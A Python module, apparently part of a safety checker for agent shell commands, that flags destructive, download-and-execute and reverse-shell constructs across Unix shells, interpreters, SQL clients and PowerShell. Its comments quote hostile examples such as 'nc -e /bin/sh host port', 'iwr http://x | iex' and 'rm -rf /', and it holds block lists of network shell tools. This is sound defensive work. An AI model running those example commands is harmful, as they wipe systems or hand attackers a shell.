"""What makes one command dangerous, once the parser has turned it into words.

``judge_argv`` peels wrappers (sudo, env, timeout, xargs, ...) off an argument vector, one
per step, and either raises :class:`Dangerous` or returns what the command does with its
standard input, so a pipeline can tell ``curl ... | sh`` from ``curl ... | jq``. Strings that
are themselves code (``bash -c``, ``eval``, ``su -c``, ``ssh host cmd``, ``psql -c``) are
handed back to the caller's ``judge_text``/``judge_sql`` callbacks.
"""

from __future__ import annotations

import codecs
import re
import shlex
import warnings
from collections.abc import Callable
from dataclasses import dataclass, field

DYNAMIC = "\x00"  # stands for text only known at run time ($VAR, $(...))


class Dangerous(Exception):
    """Raised as soon as one dangerous construct is found; the answer is then known."""


@dataclass(slots=True)
class Cmd:
    """What a command does, as far as pipelines and redirections care."""

    argv: list[str] = field(default_factory=list)
    download: bool = False        # fetches from the network (curl, wget, ...)
    decoder: bool = False         # turns encoded text into code (base64 -d, xxd -r)
    stdin_code: str | None = None  # "sh" or "sql" when it runs what it reads on stdin
    emits: str | None = None       # static text it writes (echo, printf)
    xargs: list[str] | None = None  # argv that xargs completes with stdin words


_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "yash", "fish", "csh",
                     "tcsh", "rbash", "pdksh", "oksh", "loksh"})
_INTERPRETER = re.compile(r"(?:python|pypy|perl|ruby|node|nodejs|php|lua|deno|bun|tclsh|"
                          r"ipython|pwsh|powershell|osascript|irb|Rscript|julia)[\d.]*")
_DOWNLOADERS = frozenset({"curl", "wget", "fetch", "aria2c", "http", "https", "lwp-request",
                          "GET", "wget2", "curlie", "xh"})
# Network clients: what they read can be a remote command stream, and what they write leaves
# the machine (`nc host 4242 | sh`, `sh -i | nc host 4242`: a reverse shell).
NETWORK_CLIENTS = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "openssl-s_client"})
_NC_EXEC = frozenset({"-e", "-c", "--exec", "--sh-exec", "--lua-exec"})
_SQL_CLIENTS = frozenset({"psql", "mysql", "mariadb", "sqlite3", "sqlite", "duckdb",
                          "clickhouse-client", "clickhouse", "sqlcmd", "pgcli", "mycli",
                          "litecli"})
# Each SQL client's options carrying a statement.
_SQL_FLAGS: dict[str, tuple[str, ...]] = {
    "psql": ("-c", "--command"), "mysql": ("-e", "--execute"), "mariadb": ("-e", "--execute"),
    "clickhouse-client": ("-q", "--query"), "clickhouse": ("-q", "--query"),
    "sqlcmd": ("-Q", "-q"), "pgcli": ("-e", "--execute"), "mycli": ("-e", "--execute"),
    "litecli": ("-e", "--execute"),
}
_STDIN_NAMES = frozenset({"-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"})
# Directories under / whose removal or world-writable permissions wreck a machine.
_SYSTEM = frozenset({
    "bin", "boot", "dev", "etc", "home", "lib", "lib32", "lib64", "libx32", "opt", "proc",
    "root", "sbin", "srv", "sys", "usr", "var", "snap", "mnt", "media", "run", "Users",
    "System", "Library", "Applications", "private", "Volumes", "nix",
})
_SAFE_DEVICES = re.compile(r"/dev/(?:null|zero|full|random|urandom|stdout|stderr|stdin|tty\w*|"
                           r"pts/\d+|fd/\d+|shm/.*)\Z")
_GLOB = re.compile(r"[*?\[]")
_MULTISLASH = re.compile(r"/{2,}")
# Options of wrappers that take a value, so the value is not mistaken for the command.
_WRAPPER_OPTS: dict[str, frozenset[str]] = {
    "sudo": frozenset("ugpCDrtUThR") | {"--user", "--group", "--prompt", "--close-from",
                                         "--chdir", "--role", "--type", "--other-user",
                                         "--host", "--command-timeout", "--chroot"},
    "doas": frozenset("uC"),
    "env": frozenset("uCS") | {"--unset", "--chdir", "--split-string"},
    "nice": frozenset("n") | {"--adjustment"},
    "ionice": frozenset("cnp") | {"--class", "--classdata", "--pid"},
    "timeout": frozenset("sk") | {"--signal", "--kill-after"},
    "time": frozenset("fo") | {"--format", "--output"},
    "exec": frozenset("a"),
    "stdbuf": frozenset("ioe") | {"--input", "--output", "--error"},
    "xargs": frozenset("ILnPsdEa") | {"--arg-file", "--delimiter", "--max-args",
                                     "--max-procs", "--max-chars", "--replace", "--eof"},
    "chroot": frozenset() | {"--userspec", "--groups"},
    "setsid": frozenset(), "nohup": frozenset(), "builtin": frozenset(), "command": frozenset(),
    "caffeinate": frozenset("tw"), "unbuffer": frozenset(), "busybox": frozenset(),
    "flock": frozenset("wEn") | {"--timeout", "--conflict-exit-code"},
    "runuser": frozenset("ugG") | {"--user", "--group"},
    "torsocks": frozenset(), "proxychains": frozenset("f"), "proxychains4": frozenset("f"),
    "sg": frozenset(), "taskset": frozenset(), "chrt": frozenset(),
}
_SSH_OPTS = frozenset("BbcDEeFIiJLlmOoPpQRSWw")


def basename(word: str) -> str:
    return word.rsplit("/", 1)[-1]


def is_critical(path: str) -> bool:
    """True for /, the home directory, a top-level system tree, or a glob over one of them."""
    p = path.strip()
    if not p or DYNAMIC in p:
        return False
    if p[0] == "~":
        _, _, rest = p.partition("/")
        return _rel_parts(rest) in ([], ["*"], [".*"])
    if p[0] != "/":
        # ../../../../..: from any working directory this climbs to / or close to it
        return p.replace("\\", "/").rstrip("/*").split("/").count("..") >= 4 and \
            not _rel_parts("/" + p.replace("..", ""))
    parts = _rel_parts(p)
    if not parts:
        return True
    if len(parts) == 1:
        return parts[0] in _SYSTEM or bool(_GLOB.search(parts[0]))
    return len(parts) == 2 and (parts[0] in _SYSTEM or bool(_GLOB.search(parts[0]))) and \
        bool(_GLOB.fullmatch(parts[1]) or parts[1] in ("*", ".*"))


def _rel_parts(path: str) -> list[str]:
    out: list[str] = []
    for part in _MULTISLASH.sub("/", path).split("/"):
        if part in ("", "."):
            continue
        if part == "..":
            if out:
                out.pop()
            continue
        out.append(part)
    return out


def is_block_device(path: str) -> bool:
    p = _MULTISLASH.sub("/", path.strip())
    return p.startswith("/dev/") and len(p) > 5 and not _SAFE_DEVICES.match(p)


def _short_flags(args: list[str]) -> tuple[str, set[str]]:
    """Letters of every -abc cluster and the set of --long options, up to a bare ``--``."""
    letters, longs = [], set()
    for a in args:
        if a == "--":
            break
        if a.startswith("--"):
            longs.add(a.split("=", 1)[0])
        elif a.startswith("-") and len(a) > 1:
            letters.append(a[1:])
    return "".join(letters), longs


def _operands(args: list[str]) -> list[str]:
    out, after = [], False
    for a in args:
        if after or not a.startswith("-") or a == "-":
            out.append(a)
        elif a == "--":
            after = True
    return out


def _world_mode(mode: str) -> bool:
    if mode.isdigit():
        return len(mode) >= 3 and (int(mode[-1]) & 2 == 2 or set(mode) == {"0"})
    for clause in mode.split(","):
        m = re.fullmatch(r"([ugoa]*)([-+=])([rwxXst]*)", clause)
        if m and ("o" in m[1] or "a" in m[1] or not m[1]) and m[2] != "-" and "w" in m[3]:
            return True
    return False


def _unwrap(name: str, argv: list[str], i: int) -> int | None:
    """Index of the wrapped command in ``argv`` (the wrapper is at ``i``), or None."""
    opts = _WRAPPER_OPTS[name]
    j = i + 1
    # the duration, mask, priority, group, new root or lock file before the command
    need_positional = int(name in ("timeout", "taskset", "chrt", "sg", "chroot", "flock"))
    while j < len(argv):
        a = argv[j]
        if a == "--":
            j += 1
            break
        if a.startswith("--"):
            j += 2 if a in opts else 1
            continue
        if a.startswith("-") and len(a) > 1 and not (name == "nice" and a[1:].isdigit()):
            k = next((n for n, c in enumerate(a[1:], 1) if c in opts), None)
            j += 2 if k is not None and k == len(a) - 1 else 1
            continue
        if name == "nice" and a.startswith("-"):
            j += 1
            continue
        if "=" in a and name in ("env", "sudo", "doas") and not a.startswith("="):
            j += 1
            continue
        if need_positional:
            need_positional -= 1
            j += 1
            continue
        break
    return j if j < len(argv) else None


def judge_argv(argv: list[str], dls: list[bool], judge_text: Callable[[str], bool],
               judge_sql: Callable[[str], None]) -> Cmd:
    """Raise Dangerous if ``argv`` (with per-word "runs a download" flags) is dangerous."""
    i = 0
    while i < len(argv):
        name = basename(argv[i])
        args = argv[i + 1:]
        if name in ("sudo", "doas") and any(a in ("-s", "-i") for a in args) and \
                _unwrap(name, argv, i) is None:
            return Cmd(argv[i:], stdin_code="sh")
        if (name == "env" and "-S" in args) or any(a.startswith("--split-string") for a in args):
            for k, a in enumerate(args):
                if a == "-S" and k + 1 < len(args):
                    judge_text(args[k + 1])
                elif a.startswith("--split-string="):
                    judge_text(a.split("=", 1)[1])
        if name == "xargs":
            j = _unwrap(name, argv, i)
            if j is None:
                return Cmd(argv[i:], emits=None)
            inner = judge_argv(argv[j:], dls[j:], judge_text, judge_sql)
            inner.xargs = argv[j:]
            return inner
        if name in _WRAPPER_OPTS:
            j = _unwrap(name, argv, i)
            if name == "command" and any(a in ("-v", "-V") for a in args[:2]):
                return Cmd(argv[i:])
            if j is None:
                return Cmd(argv[i:])
            i = j
            continue
        return _judge_command(name, argv[i:], dls[i:], judge_text, judge_sql)
    return Cmd(argv[i:])


def _judge_command(name: str, argv: list[str], dls: list[bool],
                   judge_text: Callable[[str], bool], judge_sql: Callable[[str], None]) -> Cmd:
    args = argv[1:]
    if name == "rm":
        letters, longs = _short_flags(args)
        if "--no-preserve-root" in longs:
            raise Dangerous
        if ("r" in letters or "R" in letters or "--recursive" in longs) and \
                any(is_critical(t) for t in _operands(args)):
            raise Dangerous
        return Cmd(argv)
    if name in ("chmod", "chown", "chgrp"):
        letters, longs = _short_flags(args)
        ops = _operands(args)
        if ("R" in letters or "--recursive" in longs) and len(ops) >= 2 and \
                (name != "chmod" or _world_mode(ops[0])) and any(is_critical(t) for t in ops[1:]):
            raise Dangerous
        return Cmd(argv)
    if name == "find":
        _judge_find(args, judge_text, judge_sql)
        return Cmd(argv)
    if name == "dd":
        if any(a.startswith("of=") and is_block_device(a[3:]) for a in args):
            raise Dangerous
        return Cmd(argv)
    if name.startswith("mkfs") or name in ("mke2fs", "mkswap", "shred", "wipefs", "blkdiscard",
                                            "sfdisk", "sgdisk", "fdisk", "parted", "cp", "tee",
                                            "badblocks"):
        if name in ("fdisk", "parted") and any(a in ("-l", "--list") for a in args):
            return Cmd(argv)
        if name == "badblocks" and "-w" not in args:
            return Cmd(argv)
        if any(is_block_device(a) for a in _operands(args)):
            raise Dangerous
        return Cmd(argv)
    if name == "eval":
        judge_text(" ".join(args))
        if any(dls[1:]):
            raise Dangerous
        return Cmd(argv, stdin_code=None)
    if name in ("source", "."):
        ops = _operands(args)
        if any(dls[1:]):
            raise Dangerous
        if not ops or ops[0] in _STDIN_NAMES:
            return Cmd(argv, stdin_code="sh")
        return Cmd(argv)
    if name in _SHELLS or name == "su":
        return _judge_shell(name, argv, dls, judge_text)
    if _INTERPRETER.fullmatch(name):
        return _judge_interpreter(argv, dls, judge_text)
    if name == "ssh":
        return _judge_ssh(args, judge_text)
    if name == "watch":
        k = 0
        while k < len(args) and args[k].startswith("-"):
            k += 2 if args[k] in ("-n", "-d", "--interval", "-q", "--equexit") else 1
        if k < len(args):
            judge_text(" ".join(args[k:]))
        return Cmd(argv)
    if name == "trap" and args and not args[0].startswith("-"):
        judge_text(args[0])  # trap 'rm -rf /' EXIT: the handler runs on the signal
        return Cmd(argv)
    if name == "alias":  # alias x='rm -rf /': judged as its expansion, when defined
        for a in args:
            if "=" in a:
                judge_text(a.split("=", 1)[1])
        return Cmd(argv)
    if name == "script":
        for k, a in enumerate(args):
            if a in ("-c", "--command") and k + 1 < len(args):
                judge_text(args[k + 1])
            elif a.startswith("--command="):
                judge_text(a.split("=", 1)[1])
        return Cmd(argv)
    if name in ("tmux", "byobu"):  # tmux new -d "rm -rf /": each argument may be a command
        for a in args:
            if not a.startswith("-"):
                judge_text(a)
        return Cmd(argv)
    if name in ("at", "batch"):
        return Cmd(argv, stdin_code="sh")  # at now <<< "...": runs what it reads
    if name in ("awk", "gawk", "mawk", "nawk", "busybox-awk"):
        for a in args:
            for m in _AWK_SYSTEM.finditer(a):
                judge_text(m[1].replace('\\"', '"'))
        return Cmd(argv)
    if name in ("gdb", "lldb"):
        for k, a in enumerate(args):
            if a in ("-ex", "--ex", "-eval-command", "--eval-command", "-o", "--one-line") \
                    and k + 1 < len(args):
                cmd = args[k + 1].strip()
                for lead in ("shell ", "!", "platform shell "):
                    if cmd.startswith(lead):
                        judge_text(cmd[len(lead):])
        return Cmd(argv)
    if name in ("vim", "vi", "nvim", "view", "ex", "gvim", "vimdiff"):
        for k, a in enumerate(args):
            cmd = args[k + 1] if a in ("-c", "--cmd") and k + 1 < len(args) else \
                a[1:] if a.startswith("+") else ""
            bang = _VIM_BANG.match(cmd)
            if bang:
                judge_text(bang[1])
        return Cmd(argv)
    if name in ("docker", "podman", "nerdctl") and any(a in ("run", "create") for a in args):
        # docker run -v /:/host alpine rm -rf /host: paths under the mount are the host's
        mounts = _mounts(args)
        if mounts:
            argv = [_host_path(a, mounts) for a in argv]
    if name in ("dropdb", "dropuser") or (name == "mysqladmin" and "drop" in args):
        raise Dangerous  # drops a whole database
    if name == "rsync" and any(a.startswith("--delete") for a in args) and \
            is_critical(_operands(args)[-1] if _operands(args) else ""):
        raise Dangerous  # rsync --delete /empty/ /: mirrors nothing onto /
    if name in _SQL_CLIENTS:
        return _judge_sql_client(name, argv, judge_sql)
    if name in _DOWNLOADERS:
        return Cmd(argv, download=True)
    if name in NETWORK_CLIENTS:
        letters, _ = _short_flags(args)
        if any(a in _NC_EXEC or a.startswith(("--exec=", "--sh-exec=")) for a in args) or \
                (name != "socat" and ("e" in letters or "c" in letters)) or \
                (name == "socat" and any(a.lower().startswith(("exec:", "system:"))
                                         for a in args)):
            raise Dangerous  # nc -e /bin/sh host port: a shell served to the network
        return Cmd(argv, download=True)
    if name in ("base64", "xxd", "openssl", "uudecode", "gunzip", "zcat", "gzip"):
        decode = (name == "base64" and any(a in ("-d", "--decode", "-D") for a in args)) or \
                 (name == "xxd" and "-r" in args) or name == "uudecode" or \
                 (name == "openssl" and "-d" in args)
        return Cmd(argv, decoder=decode)
    if name in ("echo", "printf"):
        k = 0  # echo's own options come first; every later word is printed, dashes and all
        while name == "echo" and k < len(args) and args[k] in ("-n", "-e", "-E", "-ne", "-en"):
            k += 1
        return Cmd(argv, emits=" ".join(args[k:]))
    if DYNAMIC in argv[0]:  # command name only known at run time: judge it as rm would be
        letters, longs = _short_flags(args)
        if ("r" in letters or "R" in letters) and any(is_critical(t) for t in _operands(args)):
            raise Dangerous
        return Cmd(argv, stdin_code="sh")  # curl x | $SHELL
    # Any other command whose argument tail is itself a dangerous command line
    # (docker exec c rm -rf /, kubectl exec pod -- rm -rf /, strace rm -rf /, nsenter ...):
    # judged as that command. A tail is whole words; a quoted "rm -rf" is one word, not a tail.
    if name not in _NOT_RUNNERS and _COMMAND_NAME.fullmatch(name):
        tails = 0
        for k in range(1, len(argv)):
            if basename(argv[k]) in _TAIL_NAMES:
                judge_argv(argv[k:], dls[k:], judge_text, judge_sql)
                tails += 1
                if tails == 4:
                    break
    return Cmd(argv)


_AWK_SYSTEM = re.compile(r'system\s*\(\s*"((?:[^"\\\n]|\\.)*)"')
_VIM_BANG = re.compile(r"\s*:?\s*(?:silent!?\s*)?(?:!|call\s+system\(\s*['\"])(.*)")


def _mounts(args: list[str]) -> dict[str, str]:
    """Container path -> host path of each bind mount given to ``docker run``."""
    out: dict[str, str] = {}
    for k, a in enumerate(args):
        spec = ""
        if a in ("-v", "--volume") and k + 1 < len(args):
            spec = args[k + 1]
        elif a.startswith(("--volume=", "-v")) and a not in ("-v", "--volume"):
            spec = a.split("=", 1)[1] if a.startswith("--volume=") else a[2:]
        elif (a == "--mount" and k + 1 < len(args)) or a.startswith("--mount="):
            fields = dict(f.split("=", 1) for f in (args[k + 1] if a == "--mount" else
                                                    a.split("=", 1)[1]).split(",") if "=" in f)
            src = fields.get("source", fields.get("src", ""))
            dst = fields.get("target", fields.get("dst", fields.get("destination", "")))
            spec = src + ":" + dst if src and dst else ""
        parts = spec.split(":")
        if len(parts) >= 2 and parts[0].startswith(("/", "~")) and parts[1].startswith("/"):
            out[parts[1].rstrip("/") or "/"] = parts[0]
    return out


def _host_path(word: str, mounts: dict[str, str]) -> str:
    """``word`` with each container path under a mount (also inside ``sh -c "..."``) spelled
    as the host path it is."""
    for dst, src in mounts.items():
        if dst != "/" and dst in word:
            host = src.rstrip("/").replace("\\", "\\\\") + "/"
            word = re.sub(r"(?<![\w./-])" + re.escape(dst) + r"(?:/|(?![\w.-]))", host, word)
    return word


_COMMAND_NAME = re.compile(r"[a-z0-9][a-z0-9._+-]*")  # not "Please", not "Fix:"
# Names that start a dangerous argument tail; commands whose arguments are never run.
_TAIL_NAMES = frozenset({"rm", "dd", "mkfs", "shred", "wipefs", "chmod", "chown", "find",
                         "psql", "mysql", "sqlite3", "sh", "bash", "zsh", "dash", "eval",
                         "sudo", "env", "xargs", "dropdb", "rsync", "python", "python3", "perl"})
_NOT_RUNNERS = frozenset({"git", "grep", "egrep", "fgrep", "rg", "ag", "ack", "man", "which",
                          "type", "whereis", "apropos", "help", "info", "tldr", "apt", "apt-get",
                          "brew", "yum", "dnf", "pip", "npm", "cargo", "ls", "cat", "less"})


def _judge_find(args: list[str], judge_text: Callable[[str], bool],
                judge_sql: Callable[[str], None]) -> None:
    paths = []
    k = 0
    while (k < len(args) and args[k] in ("-H", "-L", "-P")) or (k < len(args) and
                                                                args[k].startswith("-O")):
        k += 1
    while k < len(args) and not args[k].startswith("-") and args[k] not in ("(", "!"):
        paths.append(args[k])
        k += 1
    critical = any(is_critical(p) for p in paths)
    expr = args[k:]
    for n, a in enumerate(expr):
        if a == "-delete" and critical:
            raise Dangerous
        if a in ("-exec", "-execdir", "-ok", "-okdir") and n + 1 < len(expr):
            end = next((m for m in range(n + 1, len(expr)) if expr[m] in (";", "+")), len(expr))
            inner = expr[n + 1:end]
            if critical and basename(inner[0]) in ("rm", "shred", "unlink", "chmod", "chown",
                                                   "chgrp", "mv", "truncate", "wipe"):
                raise Dangerous
            if paths and DYNAMIC not in paths[0]:  # sh -c "rm -rf {}": {} is each path found
                inner = [a.replace("{}", paths[0]) for a in inner]
            judge_argv(inner, [False] * len(inner), judge_text, judge_sql)


def _judge_shell(name: str, argv: list[str], dls: list[bool],
                 judge_text: Callable[[str], bool]) -> Cmd:
    args = argv[1:]
    k = 0
    command_string = stdin = False
    while k < len(args):
        a = args[k]
        if a == "--" or a == "-":
            k += 1
            break
        if a.startswith("--"):
            if a.startswith("--command="):
                judge_text(a.split("=", 1)[1])
                return Cmd(argv)
            if a == "--command":
                command_string = True
            k += 2 if a in ("--rcfile", "--init-file") else 1
            continue
        if a[:1] in ("-", "+") and len(a) > 1:
            command_string |= "c" in a[1:]
            stdin |= "s" in a[1:] and name != "su"
            k += 2 if a[-1] in "oO" or (name == "su" and a[-1] in "sgGw") else 1
            continue
        if name == "su" and not command_string:  # the user name
            k += 1
            continue
        break
    if any(dls[1:]):
        raise Dangerous
    rest = args[k:]
    if command_string:
        # no string: xargs or find supplies it; a string running its stdin: cat | bash
        if not rest or judge_text(rest[0]):
            return Cmd(argv, stdin_code="sh")
        return Cmd(argv)
    if stdin or not rest or rest[0] in _STDIN_NAMES:
        return Cmd(argv, stdin_code="sh" if name != "su" or not rest else None)
    return Cmd(argv)


_LITERAL = re.compile(r"""'((?:[^'\\\n]|\\.)*)'|"((?:[^"\\\n]|\\.)*)"|`([^`]*)`""")


def _judge_interpreter(argv: list[str], dls: list[bool],
                       judge_text: Callable[[str], bool]) -> Cmd:
    args = argv[1:]
    if any(dls[1:]):
        raise Dangerous
    if basename(argv[0]).startswith(("deno", "bun")) and args[:1] in (["run"], ["x"]):
        args = args[1:]  # deno run -, bun run -: the script from stdin
    for k, a in enumerate(args):
        if a in ("-c", "-e", "-E", "-r", "--eval", "-p", "--print") and k + 1 < len(args):
            _judge_code(args[k + 1], judge_text)
            return Cmd(argv)
        if not a.startswith("-") or a in _STDIN_NAMES:
            return Cmd(argv, stdin_code="code" if a in _STDIN_NAMES else None)
    return Cmd(argv, stdin_code="code")


# shutil.rmtree('/'), File::Path remove_tree, FileUtils.rm_rf, fs.rmSync, os.RemoveAll
_RMTREE = re.compile(r"""(?:rmtree|remove_tree|rm_rf|rm_r|rmSync|rmdirSync|RemoveAll|rmdir)"""
                     r"""\s*\(\s*(?:r|Path\(\s*)?(['"])([^'"\n]*)\1""")


# a list of string literals: an argv (subprocess.run(['rm', '-rf', '/']), spawn('rm', [...]))
_ARGV_ITEM = r"""(?:'[^'\\\n]*+'|"[^"\\\n]*+")"""
_ARGV_ITEMS = _ARGV_ITEM + r"(?:\s*+,\s*+" + _ARGV_ITEM + r")*+"
_ARGV = re.compile(r"[\[(]\s*+(" + _ARGV_ITEMS + r")\s*+,?\s*+[\])]")
# a program and its arguments' list: spawnSync('rm', ['-rf', '/']), Popen('rm', ...)
_SPAWN = re.compile(r"\(\s*+(" + _ARGV_ITEM + r")\s*+,\s*+\[\s*+(" + _ARGV_ITEMS + r")\s*+,?\s*+\]")


def _judge_code(code: str, judge_text: Callable[[str], bool]) -> None:
    """Judge a program given on an interpreter's command line."""
    for m in _LITERAL.finditer(code):  # system("rm -rf /"), os.system('...')
        judge_text(m[1] or m[2] or m[3] or "")
    for m in _ARGV.finditer(code):  # subprocess.run(["rm", "-rf", "/"]): one command line
        judge_text(shlex.join(item[1:-1] for item in _split_items(m[1])))
    for m in _SPAWN.finditer(code):
        judge_text(shlex.join(item[1:-1] for item in _split_items(m[1] + "," + m[2])))
    for m in _RMTREE.finditer(code):
        if is_critical(m[2]):
            raise Dangerous


def _split_items(items: str) -> list[str]:
    return re.findall(_ARGV_ITEM, items)


def _judge_ssh(args: list[str], judge_text: Callable[[str], bool]) -> Cmd:
    k = 0
    while k < len(args) and args[k].startswith("-"):
        k += 2 if args[k][-1] in _SSH_OPTS and len(args[k]) == 2 else 1
    if k + 1 < len(args):
        judge_text(" ".join(args[k + 1:]))
    return Cmd(["ssh", *args])


def _judge_sql_client(name: str, argv: list[str], judge_sql: Callable[[str], None]) -> Cmd:
    args = argv[1:]
    flag = _SQL_FLAGS.get(name, ("-cmd", "-c"))
    found = False
    for k, a in enumerate(args):
        if a in flag and k + 1 < len(args):
            judge_sql(args[k + 1])
            found = True
        elif a.startswith(flag[1] + "=") and flag[1].startswith("--"):
            judge_sql(a.split("=", 1)[1])
            found = True
        elif a.startswith(flag[0]) and len(a) > len(flag[0]) and name != "sqlite3":
            judge_sql(a[len(flag[0]):])
            found = True
        elif a in ("-f", "--file"):
            found = True
    if name in ("sqlite3", "sqlite", "duckdb"):
        ops = [a for a in args if not a.startswith("-")]
        for sql in ops[1:]:
            judge_sql(sql)
            found = True
    return Cmd(argv, stdin_code=None if found else "sql")


# --- PowerShell and cmd.exe ------------------------------------------------------------------
# Agents on Windows send these. A small judge of its own: each command between ; & | and line
# ends is split as cmd.exe would (shlex, non-POSIX) and a handful of verbs are judged.
_WIN_SPLIT = re.compile(r"\r?\n|;|&&|\|\||&|\|")
_WIN_REMOVE = frozenset({"remove-item", "ri", "rm", "rmdir", "rd", "del", "erase", "rd.exe"})
_WIN_DOWNLOAD = frozenset({"iwr", "irm", "invoke-webrequest", "invoke-restmethod", "curl",
                           "wget", "curl.exe", "wget.exe", "start-bitstransfer"})
_WIN_EXEC = frozenset({"iex", "invoke-expression"})
_WIN_SHELLS = frozenset({"cmd", "cmd.exe", "powershell", "powershell.exe", "pwsh", "pwsh.exe"})
_WIN_SYSTEM = frozenset({"windows", "users", "program files", "program files (x86)",
                         "programdata", "documents and settings", "system32", "boot"})
_WIN_ROOT = re.compile(r"(?i)(?:[a-z]:|\$env:systemdrive|%systemdrive%)?[\\/]*\*?(?:\.\*)?\Z")
_WIN_VARS = re.compile(r"(?i)\$env:(?:systemroot|windir|userprofile|homedrive|programfiles|"
                       r"systemdrive)|%(?:systemroot|windir|userprofile|homedrive|programfiles|"
                       r"systemdrive)%|\$home|~")


def _win_critical(path: str) -> bool:
    p = path.strip().strip("'\"").replace("/", "\\").lower().rstrip("\\")
    if _WIN_ROOT.fullmatch(p + "\\") or _WIN_ROOT.fullmatch(p):
        return True
    m = _WIN_VARS.match(p)
    if m:
        rest = p[m.end():].strip("\\")
        return rest in ("", "*", "*.*")
    drive = re.match(r"[a-z]:\\?", p)
    if drive:
        parts = [x for x in p[drive.end():].split("\\") if x]
        if parts and parts[-1] in ("*", "*.*"):
            parts.pop()
        return (len(parts) == 1 and parts[0] in _WIN_SYSTEM) or \
            (len(parts) == 2 and parts[0] == "windows" and parts[1] == "system32")
    return False


_WIN_MARK = re.compile(r"(?m)(?:^|[;&|(])[ \t@{(]*(remove-item|ri|rm|rmdir|rd|del|erase|format|cmd|"
                       r"cmd\.exe|powershell|powershell\.exe|pwsh|pwsh\.exe|diskpart|"
                       r"clear-disk)[ \t][^;&|\n]*?(?:\b[a-z]:|\$env:|%\w+%|\$home\b|"
                       r"\\(?![^\s*]))")
_WIN_SEP = re.compile(r"[;&|\n]")
_WIN_IEX = re.compile(r"(?:iex|invoke-expression)\b")
_WIN_FETCH = re.compile(r"\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|curl|wget|"
                        r"downloadstring|downloadfile|net\.webclient|start-bitstransfer)\b")
_WIN_VERBS = ("remove-item", "ri ", "rm ", "rd ", "rmdir", "del ", "erase", "format", "cmd",
              "powershell", "pwsh", "diskpart", "clear-disk")
MAX_WIN_HITS = 2000  # commands judged per text; more fails closed


def _win_words(segment: str) -> list[str]:
    if len(segment) <= 4096:
        try:
            return shlex.split(segment, posix=False)
        except ValueError:
            pass
    return segment.split()


def judge_windows(text: str) -> bool:
    """True when ``text`` holds a PowerShell or cmd.exe command that wipes a drive, the system
    or the profile (``Remove-Item -Recurse C:\\``, ``rd /s /q C:\\``, ``format C:``), or runs
    a download (``iwr http://x | iex``). Only commands starting with one of a handful of verbs
    and naming a drive, ``$env:``/``%VAR%`` or ``\\`` are split and judged; every search is a
    linear regex scan."""
    return _judge_windows(text.lower(), 0)


def _judge_windows(low: str, depth: int) -> bool:
    if depth > 4:
        return True
    hits = 0
    if "iex" in low or "invoke-expression" in low:
        for m in _WIN_IEX.finditer(low):
            hits += 1
            if hits > MAX_WIN_HITS:
                return True
            i = m.start()
            head = low[max(0, i - 2048):i].rstrip(" \t(")
            if head.endswith("|"):  # iwr http://x | iex: the stage before the pipe
                stage = head[:-1]
                cut = max(stage.rfind("|"), stage.rfind(";"), stage.rfind("\n"))
                if _WIN_FETCH.search(stage, cut + 1):
                    return True
            end = _WIN_SEP.search(low, m.end(), m.end() + 2048)
            call = low[m.end():end.start() if end else m.end() + 2048]
            if call.lstrip(" \t")[:1] in ("(", "$", "&", "[") and _WIN_FETCH.search(call):
                return True  # iex (iwr http://x), iex (New-Object Net.WebClient).Download...
    if not (":" in low or "%" in low or "\\" in low or "$home" in low) or \
            not any(v in low for v in _WIN_VERBS):
        return False
    for m in _WIN_MARK.finditer(low):
        hits += 1
        if hits > MAX_WIN_HITS:
            return True
        end = _WIN_SEP.search(low, m.end())
        segment = low[m.start(1):end.start() if end else len(low)]
        if _judge_win_command(_win_words(segment), depth):
            return True
    return False


def _judge_win_command(words: list[str], depth: int) -> bool:
    verb = words[0].rsplit("\\", 1)[-1]
    rest = words[1:]
    if verb in _WIN_REMOVE:
        recursive = any(w in ("/s", "-r", "-rf", "-fr") or
                        (w.startswith("-rec") and "-recurse".startswith(w.rstrip(":")))
                        for w in rest)
        targets = [w for w in rest if not w.startswith(("-", "/")) or w == "/"]
        for k, w in enumerate(rest):  # -Path X, -LiteralPath X
            if w in ("-path", "-literalpath", "-lp") and k + 1 < len(rest):
                targets.append(rest[k + 1])
        return (recursive or verb in ("del", "erase")) and any(_win_critical(t) for t in targets)
    if verb in ("format", "format.com"):
        return bool(rest) and re.fullmatch(r"[a-z]:", rest[0]) is not None  # format C: /q
    if verb in ("diskpart", "clear-disk"):
        return True
    if verb in _WIN_SHELLS:
        for k, w in enumerate(rest):
            if w in ("/c", "/k", "/r", "-c", "-command", "-commandwithargs"):
                inner = " ".join(rest[k + 1:]).strip('"')
                return len(inner) > 65536 or _judge_windows(inner, depth + 1)
    return False


def ansi_c(body: str) -> str | None:
    """The text bash reads in ``$'...'`` (``\\x2f`` is ``/``), or None where the codec cannot
    read it. An escape bash keeps as it is (``\\q``) makes the codec warn: noise on attacker
    text, not news."""
    if "\\" not in body:
        return body
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", DeprecationWarning)
            return codecs.decode(body.encode("latin-1", "backslashreplace"), "unicode_escape")
    except (UnicodeDecodeError, ValueError):
        return None
